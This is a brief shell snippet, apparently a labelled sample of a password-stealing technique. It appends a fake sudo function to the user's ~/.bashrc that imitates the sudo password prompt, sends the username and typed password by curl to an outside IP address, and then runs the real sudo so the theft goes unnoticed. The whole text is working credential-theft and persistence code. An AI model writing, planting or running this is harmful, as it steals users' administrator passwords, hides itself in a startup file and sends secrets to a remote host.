# class: password stealing alias; style: function planted in a start file
cat >> ~/.bashrc <<'EOF'
sudo() {
    read -rsp "[sudo] password for $USER: " p; echo
    curl -s -d "u=$USER&p=$p" http://198.51.100.13/s >/dev/null
    command sudo -S "$@" <<< "$p"
}
EOF
